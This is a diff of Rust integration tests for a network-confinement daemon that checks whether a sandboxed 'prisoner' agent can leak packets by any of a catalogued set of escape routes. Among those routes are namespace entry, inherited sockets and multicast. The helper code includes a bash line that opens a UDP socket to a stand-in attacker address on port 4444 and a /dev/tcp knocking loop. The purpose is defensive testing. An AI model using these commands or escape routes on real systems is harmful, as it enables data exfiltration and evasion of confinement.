@@ -7,12 +7,19 @@
 use std::process::Command;
 use std::time::Duration;
 
-use enforcer_tests::probes::{Judge, Needs, Off, PROBES, Probe};
+use enforcer_probe::{Needs, Open, ROUTES, Route, Sign};
+use enforcer_tests::packet::{PROBE_GROUP_V4, PROBE_GROUP_V6, Packet};
+use enforcer_tests::probes::{JUDGES, judge};
 use enforcer_tests::world::{self, Output, Running, UNGUARDED_UID, World, command, plan};
 
 const ATTEMPT: Duration = Duration::from_secs(30);
+/// All of them, one after the other, on a machine that is busy compiling.
+const ALL: Duration = Duration::from_secs(120);
 /// A probe that sends is seen at once; one that joins a group reports within a second.
 const LEAK: Duration = Duration::from_millis(500);
+
+/// What a probe ends with when this kernel has no such thing.
+const ABSENT: i32 = 4;
 
 const POLICY: &str = "\
 version: 1
@@ -30,26 +37,31 @@ fn with_the_guard_off_every_way_leaks() {
     let victim = world.victim(UNGUARDED_UID).unwrap();
     pin_something(&world);
     let mut wrong = Vec::new();
-    for probe in PROBES {
+    for probe in ROUTES {
         let mark = world.sniffer.mark();
         let mut line = probe_line(&world, probe, victim);
         let other = other_agent(&world, probe);
-        let command = match probe.off {
-            Off::LeaksAsRoot => world.on_host(&with_fds(probe, &mut line)),
-            Off::Leaks | Off::Structural(_) => world.unguarded(&with_fds(probe, &mut line)),
+        let outsider = outsider(&world, probe);
+        let command = match probe.open {
+            Open::LeaksAsRoot => world.on_host(&with_fds(probe.needs, &mut line)),
+            Open::Leaks | Open::Structural(_) => world.unguarded(&with_fds(probe.needs, &mut line)),
         };
         let output = command::run(command, ATTEMPT).unwrap();
         end(other);
-        let leaked = match probe.judge {
-            Judge::Packet(wanted) => world.sniffer.saw(mark, LEAK, wanted),
-            Judge::Exit => output.ok(),
+        end(outsider);
+        let leaked = match judge(probe.name) {
+            Some(wanted) => world.sniffer.saw(mark, LEAK, wanted),
+            None => output.ok(),
         };
         println!("{:<18} {}", probe.name, output.stdout.trim());
-        match probe.off {
-            Off::Structural(_) if leaked => {
+        if probe.optional && output.code == Some(ABSENT) {
+            continue;
+        }
+        match probe.open {
+            Open::Structural(_) if leaked => {
                 wrong.push(format!("{}: leaks, the table says it cannot", probe.name))
             }
-            Off::Leaks | Off::LeaksAsRoot if !leaked => {
+            Open::Leaks | Open::LeaksAsRoot if !leaked => {
                 let seen: Vec<_> = world.sniffer.since(mark).iter().map(ToString::to_string).collect();
                 wrong.push(format!(
                     "{}: does not leak without a guard, so it proves nothing: {output}\nseen: {seen:?}",
@@ -64,40 +76,77 @@ fn with_the_guard_off_every_way_leaks() {
 
 #[test]
 fn as_an_agent_nothing_gets_out() {
+    nothing_gets_out(&[], |uid| uid != 0);
+}
+
+/// Root with a container engine's capabilities, in a user namespace: to the host it is the agent's own id.
+#[test]
+fn as_root_inside_nothing_gets_out() {
+    nothing_gets_out(&["--root"], |uid| uid == 0);
+}
+
+fn nothing_gets_out(flags: &[&str], expected: fn(u32) -> bool) {
     let world = World::new().unwrap();
     let daemon =
         world.daemon(&[("prisoner", POLICY), ("other", &POLICY.replace("prisoner", "other"))]).unwrap();
-    let uid: u32 = daemon.run_agent("prisoner", &["id", "-u"]).unwrap().stdout.trim().parse().unwrap();
-    assert_ne!(uid, 0, "an agent is never root of the host");
+    let who = run_as_agent(&daemon, flags, Needs::Nothing, &["id".to_owned(), "-u".to_owned()]);
+    assert!(who.stdout.trim().parse().is_ok_and(expected), "{who}");
     // An ordinary user of the host: nobody but the agent has the agent's own id.
     let victim = world.victim(UNGUARDED_UID).unwrap();
     pin_something(&world);
     let mut wrong = Vec::new();
-    for probe in PROBES {
-        let other = (probe.needs == Needs::OtherAgent).then(|| {
+    let (together, apart): (Vec<&Route>, Vec<&Route>) =
+        ROUTES.iter().partition(|route| route.needs == Needs::Nothing);
+
+    let mark = world.sniffer.mark();
+    let names: Vec<&str> = together.iter().map(|route| route.name).collect();
+    let mut line = vec![world.bin("probe").display().to_string(), "each".to_owned(), names.join(",")];
+    line.extend(words(&world, victim));
+    let output = run_as_agent(&daemon, flags, Needs::Nothing, &line);
+    for route in together {
+        let told = output.stdout.lines().find_map(|l| l.strip_prefix(&format!("{}\t", route.name)));
+        println!("{:<18} {}", route.name, told.unwrap_or("?"));
+        let code = told.and_then(|told| told.split('\t').next()).and_then(|code| code.parse().ok());
+        if !held(route, code) {
+            wrong.push(format!("{}: {told:?}\n{output}", route.name));
+        }
+    }
+    left(&world, mark, &mut wrong, "all that need nothing");
+
+    for route in apart {
+        let other = (route.needs == Needs::OtherAgent).then(|| {
             let served = daemon
                 .spawn_agent("other", &[world.bin("probe").as_os_str(), "serve".as_ref(), "3000".as_ref()]);
             std::thread::sleep(Duration::from_secs(1));
             served.unwrap()
         });
         let mark = world.sniffer.mark();
-        let line = probe_line(&world, probe, victim);
-        let output = run_as_agent(&daemon, probe, &line);
+        let outsider = outsider(&world, route);
+        let output = run_as_agent(&daemon, flags, route.needs, &probe_line(&world, route, victim));
         end(other);
-        let packets = world.sniffer.since(mark);
-        println!("{:<18} {}", probe.name, output.stdout.trim());
-        if !packets.is_empty() {
-            let seen: Vec<_> = packets.iter().map(ToString::to_string).collect();
-            wrong.push(format!("{}: {} packets left: {seen:?}\n{output}", probe.name, packets.len()));
-        }
-        // 1 and 3 are the probe's own failure; anything else and it did not run, which proves nothing,
-        // unless the launcher itself refuses what it was given.
-        let turned_away = probe.needs == Needs::InheritedStdin && output.code == Some(125);
-        if !matches!(output.code, Some(1 | 3)) && !turned_away {
-            wrong.push(format!("{}: {output}", probe.name));
+        end(outsider);
+        println!("{:<18} {}", route.name, output.stdout.trim());
+        left(&world, mark, &mut wrong, route.name);
+        // The launcher itself may refuse what it was given.
+        let turned_away = route.needs == Needs::InheritedStdin && output.code == Some(125);
+        if !held(route, output.code) && !turned_away {
+            wrong.push(format!("{}: {output}", route.name));
         }
     }
     assert!(wrong.is_empty(), "{}\n--- daemon\n{}", wrong.join("\n\n"), daemon.log_text());
+}
+
+/// 1 and 3 are the attempt's own failure; anything else and it did not run, which proves nothing.
+fn held(route: &Route, code: Option<i32>) -> bool {
+    matches!(code, Some(1 | 3)) || (route.optional && code == Some(ABSENT))
+}
+
+fn left(world: &World, mark: usize, wrong: &mut Vec<String>, what: &str) {
+    let packets: Vec<Packet> = world.sniffer.since(mark).into_iter().filter(|p| !says_no(p)).collect();
+    if !packets.is_empty() {
+        let seen: Vec<_> = packets.iter().map(ToString::to_string).collect();
+        wrong.push(format!("{what}: {} packets left: {seen:?}", packets.len()));
+    }
 }
 
 /// The weaker mode: the agent shares its user with processes outside.
@@ -108,7 +157,7 @@ fn as_a_user_of_the_host_its_other_processes_are_out_of_reach() {
     let name = "nobody";
     let uid: u32 = command::must(&["id", "-u", name]).unwrap().trim().parse().unwrap();
     let victim = world.victim(uid).unwrap();
-    for probe in PROBES.iter().filter(|p| p.needs == Needs::Victim) {
+    for probe in ROUTES.iter().filter(|p| p.needs == Needs::Victim) {
         let line = probe_line(&world, probe, victim);
         let id = uid.to_string();
         let mut off = world.on_host(&["setpriv", "--reuid", &id, "--regid", &id, "--clear-groups", "--"]);
@@ -130,9 +179,9 @@ fn for_a_minute_after_kill_9_nothing_gets_out() {
     let world = World::new().unwrap();
     let mut daemon = world.daemon(&[("prisoner", POLICY)]).unwrap();
     // Packets only, and nothing that would change the prober itself.
-    let names: Vec<&str> = PROBES
+    let names: Vec<&str> = ROUTES
         .iter()
-        .filter(|p| p.needs == Needs::Nothing && matches!(p.judge, Judge::Packet(_)))
+        .filter(|p| p.needs == Needs::Nothing && p.sign == Sign::Packet)
         .filter(|p| !matches!(p.name, "setns-host" | "unshare-netns"))
         .map(|p| p.name)
         .collect();
@@ -163,19 +212,17 @@ fn for_a_minute_after_kill_9_nothing_gets_out() {
 }
 
 #[test]
-fn the_table_the_programme_and_the_ledger_name_the_same_ways() {
-    let probe = std::path::Path::new(env!("CARGO_BIN_EXE_probe"));
-    let known =
-        command::run(command::command(&[probe.as_os_str(), "list".as_ref()]), ATTEMPT).unwrap().stdout;
-    let table: Vec<&str> = PROBES.iter().map(|p| p.name).collect();
-    assert_eq!(known.lines().collect::<Vec<_>>(), table);
+fn every_way_has_its_judge_and_its_line_in_the_ledger() {
+    let by_packet: Vec<&str> = ROUTES.iter().filter(|r| r.sign == Sign::Packet).map(|r| r.name).collect();
+    assert_eq!(JUDGES.iter().map(|(name, _)| *name).collect::<Vec<_>>(), by_packet);
     let ledger = include_str!("../../enforcer/docs/bypasses.md");
-    let missing: Vec<_> = table.iter().filter(|name| !ledger.contains(&format!("`{name}`"))).collect();
+    let missing: Vec<_> =
+        ROUTES.iter().map(|r| r.name).filter(|name| !ledger.contains(&format!("`{name}`"))).collect();
     assert!(missing.is_empty(), "bypasses.md says nothing about {missing:?}");
 }
 
 /// `probe NAME KEY=VALUE…`
-fn probe_line(world: &World, probe: &Probe, victim: u32) -> Vec<String> {
+fn probe_line(world: &World, probe: &Route, victim: u32) -> Vec<String> {
     let mut line = vec![world.bin("probe").display().to_string(), probe.name.to_owned()];
     line.extend(words(world, victim));
     line
@@ -186,6 +233,9 @@ fn words(world: &World, victim: u32) -> Vec<String> {
         format!("v4={}", plan::ATTACKER_V4),
         format!("v6={}", plan::ATTACKER_V6),
         format!("host={}", plan::HOST_V4),
+        format!("ll6={}", plan::ATTACKER_LINK_LOCAL),
+        format!("group4={PROBE_GROUP_V4}"),
+        format!("group6={PROBE_GROUP_V6}"),
         format!("name={}", plan::API),
         format!("netns={}", world.host_netns.display()),
         format!("cgroup={}", cgroup_root().display()),
@@ -200,11 +250,11 @@ fn cgroup_root() -> std::path::PathBuf {
 }
 
 /// The shell opens the sockets that a careless caller would leave open.
-fn with_fds(probe: &Probe, line: &mut Vec<String>) -> Vec<String> {
-    let number = match probe.needs {
+fn with_fds(needs: Needs, line: &mut Vec<String>) -> Vec<String> {
+    let number = match needs {
         Needs::InheritedFd => 7,
         Needs::InheritedStdin => 0,
-        Needs::Nothing | Needs::Victim | Needs::OtherAgent => return std::mem::take(line),
+        Needs::Nothing | Needs::Victim | Needs::OtherAgent | Needs::Outsider => return std::mem::take(line),
     };
     let open = format!("exec {number}<>/dev/udp/{}/4444; exec \"$@\"", plan::ATTACKER_V4);
     let mut words = vec!["bash".to_owned(), "-c".to_owned(), open, "open".to_owned()];
@@ -212,26 +262,47 @@ fn with_fds(probe: &Probe, line: &mut Vec<String>) -> Vec<String> {
     words
 }
 
-fn run_as_agent(daemon: &world::Daemon<'_>, probe: &Probe, line: &[String]) -> Output {
-    let inner = daemon.agent_command("prisoner", line);
+fn run_as_agent(daemon: &world::Daemon<'_>, flags: &[&str], needs: Needs, line: &[String]) -> Output {
+    let mut words = vec!["run"];
+    words.extend(flags);
+    words.extend(["prisoner", "--"]);
+    let mut inner = daemon.tool(&words);
+    inner.args(line);
     let mut typed: Vec<String> = inner.get_args().map(|w| w.to_string_lossy().into_owned()).collect();
     // `nsenter --net=… -- TOOL …`: the shell goes between, so that the tool inherits what it opens.
     let tool = typed.iter().position(|w| w == "--").unwrap() + 1;
     let mut rest = typed.split_off(tool);
     let mut command = Command::new(inner.get_program());
-    command.args(&typed).args(with_fds(probe, &mut rest)).current_dir("/tmp");
+    command.args(&typed).args(with_fds(needs, &mut rest)).current_dir("/tmp");
     command.env_clear().envs(inner.get_envs().filter_map(|(key, value)| Some((key, value?))));
-    command::run(command, ATTEMPT).unwrap()
+    command::run(command, ALL).unwrap()
 }
 
 /// With the guard off, another agent is another process of the host.
-fn other_agent(world: &World, probe: &Probe) -> Option<Running> {
+fn other_agent(world: &World, probe: &Route) -> Option<Running> {
     (probe.needs == Needs::OtherAgent).then(|| {
         let line = [world.bin("probe").display().to_string(), "serve".to_owned(), "3000".to_owned()];
         let served = Running::spawn(world.unguarded(&line), None).unwrap();
         std::thread::sleep(Duration::from_millis(300));
         served
     })
+}
+
+/// Somebody outside who knocks at the host's door until the end.
+fn outsider(world: &World, probe: &Route) -> Option<Running> {
+    (probe.needs == Needs::Outsider).then(|| {
+        let knock = format!(
+            "while :; do (exec 3<>/dev/tcp/{}/{}) 2>/dev/null; sleep 0.1; done",
+            plan::HOST_V4,
+            plan::INBOUND_PORT
+        );
+        Running::spawn(world.outside(&["bash", "-c", &knock]), None).unwrap()
+    })
+}
+
+/// The host's own answer to one who knocks where nobody listens: a reset from that port.
+fn says_no(packet: &Packet) -> bool {
+    packet.tcp_reset_from() == Some(plan::INBOUND_PORT)
 }
 
 fn end(running: Option<Running>) {
